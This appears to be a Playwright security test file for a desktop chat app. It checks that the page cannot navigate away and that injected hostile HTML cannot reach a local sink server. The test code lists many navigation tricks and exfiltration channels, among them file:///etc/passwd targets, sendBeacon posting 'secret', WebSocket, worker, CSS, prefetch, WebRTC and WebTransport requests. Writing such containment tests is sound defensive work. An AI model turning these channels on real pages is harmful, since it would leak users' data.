import { expect, test } from "@playwright/test";
import { canary, hostileTexts } from "../support/hostileTexts.ts";
import { expectStillHere, watchDoorOut, windowAddresses } from "./support/doorOut.ts";
import { launchApp, type RunningApp } from "./support/launchApp.ts";
import { openSink, type Sink } from "./support/Sink.ts";

let app: RunningApp;
let sink: Sink;
test.beforeEach(async () => {
  sink = await openSink();
  app = await launchApp();
});
test.afterEach(async () => {
  await app.close();
  sink.close();
});

/** Run in the page. Each tries to navigate to `url`. */
const departures: Record<string, (url: string) => void> = {
  href: (url) => (location.href = url),
  assign: (url) => location.assign(url),
  replace: (url) => location.replace(url),
  top: (url) => ((window.top ?? window).location.href = url),
  click: (url) => {
    const a = Object.assign(document.createElement("a"), { href: url });
    document.body.append(a);
    a.click();
    a.remove();
  },
  blank: (url) => {
    const a = Object.assign(document.createElement("a"), { href: url, target: "_blank" });
    document.body.append(a);
    a.click();
    a.remove();
  },
  download: (url) => {
    const a = Object.assign(document.createElement("a"), { href: url, download: "x.html" });
    document.body.append(a);
    a.click();
    a.remove();
  },
  form: (url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
    document.body.append(form);
    form.submit();
    form.remove();
  },
  refresh: (url) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${url}`;
    document.head.append(meta);
    meta.remove();
  },
  frame: (url) => {
    const frame = Object.assign(document.createElement("iframe"), { src: url });
    document.body.append(frame);
    frame.remove();
  },
};

test("S6: the page navigates nowhere, in any way", async () => {
  await watchDoorOut(app);
  const places = [sink.address, "file:///etc/passwd", "data:text/html,x", "https://example.com/"];
  let attempts = 0;
  for (const [way, leave] of Object.entries(departures)) {
    for (const place of places) {
      await app.page.evaluate(`(${leave.toString()})(${JSON.stringify(place)})`).catch(() => undefined);
      // A navigation would have begun before the next frame is painted.
      await app.page.evaluate(
        () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
      );
      await expectStillHere(app, sink, `${way} to ${place}`);
      attempts++;
    }
  }
  expect(attempts).toBeGreaterThanOrEqual(30);
  // Chromium navigates to an empty page without asking; the app is back at once.
  await app.page.evaluate(() => (location.href = "about:blank")).catch(() => undefined);
  await expect.poll(() => windowAddresses(app)).toEqual(["workbench://app/index.html"]);
  await expect(app.page.getByRole("textbox", { name: "Message" })).toBeVisible();
  // A page and a file dropped on the window are not opened.
  for (const [type, data] of [
    ["text/uri-list", sink.address],
    ["text/html", `<img src="${sink.address}/dropped">`],
    ["text/plain", "file:///etc/passwd"],
  ]) {
    await app.page.evaluate(
      ([kind = "", words = ""]) => {
        const dataTransfer = new DataTransfer();
        dataTransfer.setData(kind, words);
        for (const name of ["dragenter", "dragover", "drop"]) {
          document.body.dispatchEvent(new DragEvent(name, { dataTransfer, bubbles: true, cancelable: true }));
        }
      },
      [type, data],
    );
    await expectStillHere(app, sink, `dropped ${type}`);
  }
  await expect(app.page.getByRole("textbox", { name: "Message" })).toBeVisible();
});

test("S7: even raw in the page, with its own scripts, nothing in the corpus reaches the outside", async () => {
  const door = await watchDoorOut(app);
  const { address, port } = sink;
  await app.page.evaluate(
    (texts) => {
      // One of the texts has a form named "createElement", which would be returned instead.
      const make = Document.prototype.createElement.bind(document);
      for (const text of texts) {
        const box = make("div");
        box.innerHTML = text;
        document.body.append(box);
      }
    },
    hostileTexts(address).map(({ text }) => text),
  );
  await app.page.evaluate(
    async ({ at, number }) => {
      const make = Document.prototype.createElement.bind(document);
      const quietly = async (work: () => unknown): Promise<void> => {
        try {
          await Promise.race([work(), new Promise((resolve) => setTimeout(resolve, 300))]);
        } catch {
          // Refused, as expected.
        }
      };
      const socket = at.replace("http", "ws");
      const attempts: (() => unknown)[] = [
        () => fetch(`${at}/fetch`),
        () => fetch(`${at}/no-cors`, { mode: "no-cors", method: "POST", body: "secret" }),
        () => navigator.sendBeacon(`${at}/beacon`, "secret"),
        () => new Image().setAttribute("src", `${at}/image`),
        () => new WebSocket(`${socket}/socket`),
        () => new EventSource(`${at}/events`),
        () => new Worker(`${at}/worker.js`),
        () => new SharedWorker(`${at}/shared.js`),
        () => navigator.serviceWorker.register(`${at}/service.js`),
        () => import(/* @vite-ignore */ `${at}/module.js`),
        () => new FontFace("f", `url(${at}/font)`).load(),
        () => new Audio(`${at}/audio`).play(),
        () => {
          const request = new XMLHttpRequest();
          request.open("GET", `${at}/xhr`);
          request.send();
        },
        () => {
          const sheet = make("style");
          sheet.textContent = `@import url(${at}/css); body { background: url(${at}/bg) }`;
          document.head.append(sheet);
        },
        () => {
          for (const rel of [
            "stylesheet",
            "prefetch",
            "preload",
            "preconnect",
            "dns-prefetch",
            "modulepreload",
            "icon",
            "manifest",
          ]) {
            const link = make("link");
            Object.assign(link, { rel, href: `${at}/${rel}`, as: "script" });
            document.head.append(link);
          }
        },
        () => {
          const rules = make("script");
          rules.type = "speculationrules";
          rules.textContent = JSON.stringify({ prefetch: [{ urls: [`${at}/speculation`] }] });
          document.head.append(rules);
        },
        async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${number}` }] });
          peer.createDataChannel("x");
          await peer.setLocalDescription(await peer.createOffer());
          await new Promise((resolve) => setTimeout(resolve, 250));
          peer.close();
        },
        () =>
          new (globalThis as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(
            `${at.replace("http", "https")}/wt`,
          ),
      ];
      for (const attempt of attempts) await quietly(attempt);
    },
    { at: address, number: port },
  );
  expect(sink.arrived).toEqual([]);
  expect(await windowAddresses(app)).toEqual(["workbench://app/index.html"]);
  expect(await door.opened()).toEqual([]);
  expect(await app.page.evaluate((name) => name in window, canary)).toBe(false);
});
